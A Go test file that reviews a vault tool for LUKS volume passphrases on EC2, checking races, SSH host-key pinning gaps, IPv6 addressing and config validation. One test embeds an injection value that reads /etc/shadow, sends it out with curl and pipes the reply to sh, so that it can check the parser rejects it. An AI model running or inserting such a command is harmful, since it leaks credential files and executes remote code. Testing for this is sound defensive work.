package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/ec2"
	"github.com/cloudluks/cloudluks/keeper"
	"golang.org/x/crypto/ssh"
	"golang.org/x/crypto/ssh/knownhosts"

	"github.com/cloudluks/cloudluks/keeper/config"
	"github.com/cloudluks/cloudluks/keeper/vault"
)

// Two `keeper vault add` at once: the one still at its volume-passphrase prompt writes
// last and drops the other's entry.
func TestReviewConcurrentVaultAdd(t *testing.T) {
	dir := t.TempDir()
	k := agePair(t, dir)
	path := filepath.Join(dir, "v.age")
	if r := kp(t, "p1\n", "--vault", path, "vault", "add", vol1, "--uuid", uuid1, "--recipient", k.recipient); r.code != 0 {
		t.Fatal(r.stderr)
	}
	pr, pw := io.Pipe()
	done := make(chan int)
	var errb bytes.Buffer
	go func() {
		done <- run(context.Background(), []string{"--vault", path, "--identity", k.file, "vault", "add", vol2, "--uuid", uuid2}, pr, io.Discard, &errb)
	}()
	time.Sleep(300 * time.Millisecond) // A has opened the vault and waits for the passphrase
	third := "vol-0aaaaaaaaaaaaaaaa"
	if r := kp(t, "p3\n", "--vault", path, "--identity", k.file, "vault", "add", third, "--uuid", uuid1); r.code != 0 {
		t.Fatal(r.stderr)
	}
	pw.Write([]byte("p2\n"))
	pw.Close()
	if c := <-done; c != 0 {
		t.Fatal(errb.String())
	}
	r := kp(t, "", "--vault", path, "--identity", k.file, "vault", "list")
	if !strings.Contains(r.stdout, third) {
		t.Errorf("entry %s added while another add waited is gone:\n%s", third, r.stdout)
	}
}

// A failed add (the volume passphrase never comes) still leaves a new vault behind.
func TestReviewAddSideEffect(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "v.age")
	r := kp(t, "vault pass\n", "--vault", path, "vault", "add", vol1, "--uuid", uuid1)
	if r.code == 0 {
		t.Fatal("add without a volume passphrase succeeded")
	}
	if _, err := os.Stat(path); err == nil {
		t.Errorf("exit %d, yet %s was created", r.code, path)
	}
}

// TOFU with a different-type key already pinned for the host: pinned alongside, no warning.
func TestReviewPinOtherType(t *testing.T) {
	s := startSSHD(t)
	dir := t.TempDir()
	kh := filepath.Join(dir, "known_hosts")
	// The real instance's ECDSA key, pinned earlier.
	ek, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	k, err := ssh.NewPublicKey(&ek.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(kh, []byte(knownhosts.Line([]string{"i-0123456789abcdef0", s.addr}, k)+"\n"), 0o644)
	cfg := writeConfig(t, dir, target("i-0123456789abcdef0", vol1, s.addr))
	r := kp(t, "", "-c", cfg, "trust", "i-0123456789abcdef0", "--no-console", "--yes", "--known-hosts", kh)
	data, _ := os.ReadFile(kh)
	t.Logf("exit %d\n%s", r.code, data)
	if r.code == 0 && strings.Count(string(data), "\n") == 2 {
		t.Errorf("a second, unvouched key was pinned next to the existing one without --replace; stderr: %s", r.stderr)
	}
}

// A bare IPv6 address passes the configuration but becomes an address the engine cannot dial.
func TestReviewIPv6Address(t *testing.T) {
	c, err := config.Parse("k.toml", []byte("vault = \"/v\"\nknown_hosts = \"/k\"\n[ssh]\nuser = \"u\"\nkey = \"/id\"\n[[target]]\ninstance = \"i-0123456789abcdef0\"\nvolume = \"vol-0123456789abcdef0\"\n[target.ssh]\naddress = \"::1\"\njump_host = { address = \"fe80::1\", user = \"j\", agent = true }\n"))
	if err != nil {
		t.Fatal(err)
	}
	sc := sshConfig(c.Targets[0].SSH)
	t.Logf("Addr %q, jump %q", sc.Addr, sc.JumpHost.Addr)
	if sc.Addr != "[::1]:22" || sc.JumpHost.Addr != "[fe80::1]:22" {
		t.Errorf("want [::1]:22 and [fe80::1]:22, have %q and %q", sc.Addr, sc.JumpHost.Addr)
	}
}

// Shell metacharacters in command are accepted.
func TestReviewCommandMeta(t *testing.T) {
	_, err := config.Parse("k.toml", []byte("vault = \"/v\"\nknown_hosts = \"/k\"\n[ssh]\nuser = \"u\"\nkey = \"/id\"\ncommand = \"encrypted-volume serve; curl http://x/$(cat /etc/shadow) | sh\"\n[[target]]\ninstance = \"i-0123456789abcdef0\"\nvolume = \"vol-0123456789abcdef0\"\n"))
	if err == nil {
		t.Errorf("command with ; $( ) | accepted")
	}
}

var _ = vault.ErrExists

// A hashed known_hosts line (ssh-keygen -H) pinning another ed25519 key is not seen.
func TestReviewPinHashed(t *testing.T) {
	s := startSSHD(t)
	dir := t.TempDir()
	kh := filepath.Join(dir, "known_hosts")
	old, _, _ := ed25519.GenerateKey(rand.Reader)
	k, _ := ssh.NewPublicKey(old)
	os.WriteFile(kh, []byte(knownhosts.HashHostname(knownhosts.Normalize(s.addr))+" "+strings.TrimSpace(string(ssh.MarshalAuthorizedKey(k)))+"\n"), 0o644)
	cfg := writeConfig(t, dir, target("i-0123456789abcdef0", vol1, s.addr))
	r := kp(t, "", "-c", cfg, "trust", "i-0123456789abcdef0", "--no-console", "--yes", "--known-hosts", kh)
	if r.code == 0 {
		data, _ := os.ReadFile(kh)
		t.Errorf("conflicting hashed pin ignored:\n%s", data)
	}
}

type emptyEC2 struct{ keeper.EC2API }

func (emptyEC2) DescribeInstances(context.Context, *ec2.DescribeInstancesInput, ...func(*ec2.Options)) (*ec2.DescribeInstancesOutput, error) {
	return &ec2.DescribeInstancesOutput{}, nil
}

// One tag group with no instance right now (scaled to zero, all terminated) and the
// fixed target next to it is not served either: targets() fails as a whole.
func TestReviewOneEmptyGroupStopsFleet(t *testing.T) {
	c, err := config.Parse("k.toml", []byte("vault = \"/v\"\nknown_hosts = \"/k\"\n[ssh]\nuser = \"u\"\nkey = \"/id\"\n[[target]]\nname = \"db\"\ninstance = \"i-0123456789abcdef0\"\nvolume = \""+vol1+"\"\n[[target]]\nname = \"web\"\ninstance_tags = { Role = \"web\" }\nvolume_tags = { Name = \"data\" }\n"))
	if err != nil {
		t.Fatal(err)
	}
	v, _ := vault.Create(filepath.Join(t.TempDir(), "v.age"), []byte("pw"), vault.Options{WorkFactor: 10})
	defer v.Close()
	v.Add(vault.Entry{VolumeID: vol1, LUKSUUID: uuid1}, []byte("x"))
	ts, err := targets(context.Background(), c, emptyEC2{}, v)
	t.Logf("targets %d, err %v", len(ts), err)
	if len(ts) == 0 {
		t.Errorf("the fixed target db is not served because group web is empty: %v", err)
	}
}
